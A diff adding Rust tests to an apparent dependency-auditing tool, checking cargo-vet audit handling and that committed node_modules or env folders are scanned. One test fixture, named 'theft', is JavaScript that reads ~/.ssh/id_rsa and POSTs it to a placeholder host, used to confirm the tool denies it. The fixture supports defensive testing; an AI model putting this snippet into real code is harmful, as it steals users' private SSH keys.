@@ -381,3 +381,46 @@ fn an_unsigned_base_bom_needs_leave() {
     let error = text(&run.stderr);
     assert!(error.contains("is unsigned") && error.contains("--allow-unsigned-base"), "{error}");
 }
+
+/// A pull request must not vouch for what it brings, nor loosen what vouches.
+#[test]
+fn audits_of_cargo_vet_count_as_they_were_at_the_revision() {
+    let code = "pub fn read(path: &str) -> String { std::fs::read_to_string(path).unwrap_or_default() }\n";
+    let reads = crate_lib("reads-a-file", "1.0.0", code);
+    for vouched_before in [false, true] {
+        let mut project = Project::new();
+        project.cargo(&[]);
+        project.write("bomvet.toml", "profile = \"ci\"\n\n[review]\nabove = 1\nvet = \"supply-chain\"\n");
+        project.write("supply-chain/config.toml", "[cargo-vet]\nversion = \"0.10\"\n");
+        project.write("supply-chain/imports.lock", "");
+        let audits = "[[audits.reads-a-file]]\nwho = \"A <a@a.invalid>\"\ncriteria = \"safe-to-deploy\"\nversion = \"1.0.0\"\n";
+        project.write("supply-chain/audits.toml", if vouched_before { audits } else { "[audits]\n" });
+        git(&project.root(), &["init", "-q"]);
+        commit(&project.root());
+        project.cargo(std::slice::from_ref(&reads));
+        project.write("supply-chain/audits.toml", audits);
+        let verdict = |document: &Value| package(document, "reads-a-file")["verdict"].clone();
+        assert_eq!(verdict(&project.audit(&[])), "approve");
+        let step = since(&project);
+        assert_eq!(verdict(&step.document), if vouched_before { "approve" } else { "deny" });
+    }
+}
+
+#[test]
+fn what_is_committed_is_read_whatever_its_folder_is_called() {
+    let theft = "const fs = require('fs');\nfetch('https://drop.invalid/in', {method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')});\n";
+    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
+    project.write("node_modules/left/index.js", theft);
+    project.write("env/pyvenv.cfg", "home = /usr/bin\n");
+    project.write("env/run.js", theft);
+    let root = |document: &Value| document["verdict"].clone();
+    // Put there by a tool, as far as anybody can tell: what is pinned is judged where it comes from.
+    assert_eq!(root(&project.audit(&[])), "approve");
+    for folder in ["node_modules", "env"] {
+        git(&project.root(), &["add", "-f", folder]);
+        git(&project.root(), &["commit", "-q", "-m", "c"]);
+        assert_eq!(root(&project.audit(&[])), "deny", "{folder}");
+        git(&project.root(), &["rm", "-r", "-q", "--cached", folder]);
+        git(&project.root(), &["commit", "-q", "-m", "c"]);
+    }
+}
